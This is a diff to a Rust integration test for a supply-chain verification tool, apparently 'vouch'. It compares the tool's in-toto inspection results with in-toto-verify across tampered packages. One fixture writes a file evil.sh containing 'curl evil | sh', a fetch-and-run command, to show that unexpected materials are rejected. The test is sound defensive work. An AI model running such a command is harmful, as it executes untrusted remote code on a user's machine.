@@ -441,19 +441,30 @@ fn inspections_run_only_when_asked_and_hold_like_in_toto() {
     assert_eq!(code, 1, "{out}");
     assert!(out.contains("give --run-inspections DIR"), "{out}");
 
+    // `vouch custody verify --run-inspections` of inspect.layout in a directory `prepare`
+    // filled, and in-toto-verify in another filled the same way: vouch's exit code, output
+    // and directory, and in-toto-verify's exit code.
+    let both = |prepare: &dyn Fn(&Path)| {
+        let d = tempfile::tempdir().unwrap();
+        prepare(d.path());
+        let (code, out) = verify5(
+            "inspect.layout",
+            &["--run-inspections".as_ref(), &os(d.path())],
+        );
+        let d2 = tempfile::tempdir().unwrap();
+        prepare(d2.path());
+        (code, out, d, in_toto_verify5("inspect.layout", d2.path()))
+    };
+    let package = |d: &Path| {
+        std::fs::copy(five().join("app.tar.gz"), d.join("app.tar.gz")).unwrap();
+    };
+
     // The deployed package, unpacked and checked.
-    let d = tempfile::tempdir().unwrap();
-    std::fs::copy(five().join("app.tar.gz"), d.path().join("app.tar.gz")).unwrap();
-    let (code, out) = verify5(
-        "inspect.layout",
-        &["--run-inspections".as_ref(), &os(d.path())],
-    );
+    let (code, out, d, in_toto) = both(&package);
     assert_eq!(code, 0, "{out}");
     assert!(out.contains("deploy -> inspect:untar"), "{out}");
     assert!(d.path().join("build/app.out").exists());
-    let d2 = tempfile::tempdir().unwrap();
-    std::fs::copy(five().join("app.tar.gz"), d2.path().join("app.tar.gz")).unwrap();
-    assert_eq!(in_toto_verify5("inspect.layout", d2.path()), 0);
+    assert_eq!(in_toto, 0);
 
     // One flipped byte in the package: not the package step's product.
     let flipped = |d: &Path| {
@@ -462,20 +473,13 @@ fn inspections_run_only_when_asked_and_hold_like_in_toto() {
         b[mid] ^= 1;
         std::fs::write(d.join("app.tar.gz"), b).unwrap();
     };
-    let d = tempfile::tempdir().unwrap();
-    flipped(d.path());
-    let (code, out) = verify5(
-        "inspect.layout",
-        &["--run-inspections".as_ref(), &os(d.path())],
-    );
+    let (code, out, _, in_toto) = both(&flipped);
     assert_eq!(code, 1, "{out}");
     assert!(
         out.contains("inspection untar: [\"tar\", \"xzf\", \"app.tar.gz\"] exited with"),
         "{out}"
     );
-    let d2 = tempfile::tempdir().unwrap();
-    flipped(d2.path());
-    assert_ne!(in_toto_verify5("inspect.layout", d2.path()), 0);
+    assert_ne!(in_toto, 0);
 
     // A package that unpacks fine (the same files, packed again) but is not the package
     // step's product: the inspection's MATCH does not consume it.
@@ -490,38 +494,25 @@ fn inspections_run_only_when_asked_and_hold_like_in_toto() {
             .unwrap();
         assert!(o.status.success());
     };
-    let d = tempfile::tempdir().unwrap();
-    repack(d.path());
-    let (code, out) = verify5(
-        "inspect.layout",
-        &["--run-inspections".as_ref(), &os(d.path())],
-    );
+    let (code, out, _, in_toto) = both(&repack);
     assert_eq!(code, 1, "{out}");
     assert!(
         out.contains("untar: materials \"app.tar.gz\" is disallowed"),
         "{out}"
     );
-    let d2 = tempfile::tempdir().unwrap();
-    repack(d2.path());
-    assert_ne!(in_toto_verify5("inspect.layout", d2.path()), 0);
+    assert_ne!(in_toto, 0);
 
     // A file beside the package that no rule allows.
-    let d = tempfile::tempdir().unwrap();
-    std::fs::copy(five().join("app.tar.gz"), d.path().join("app.tar.gz")).unwrap();
-    std::fs::write(d.path().join("evil.sh"), b"curl evil | sh\n").unwrap();
-    let (code, out) = verify5(
-        "inspect.layout",
-        &["--run-inspections".as_ref(), &os(d.path())],
-    );
+    let (code, out, _, in_toto) = both(&|d: &Path| {
+        package(d);
+        std::fs::write(d.join("evil.sh"), b"curl evil | sh\n").unwrap();
+    });
     assert_eq!(code, 1, "{out}");
     assert!(
         out.contains("untar: materials \"evil.sh\" is disallowed"),
         "{out}"
     );
-    let d2 = tempfile::tempdir().unwrap();
-    std::fs::copy(five().join("app.tar.gz"), d2.path().join("app.tar.gz")).unwrap();
-    std::fs::write(d2.path().join("evil.sh"), b"curl evil | sh\n").unwrap();
-    assert_ne!(in_toto_verify5("inspect.layout", d2.path()), 0);
+    assert_ne!(in_toto, 0);
 
     // An inspection that runs past the timeout is killed and refused.
     let d = tempfile::tempdir().unwrap();
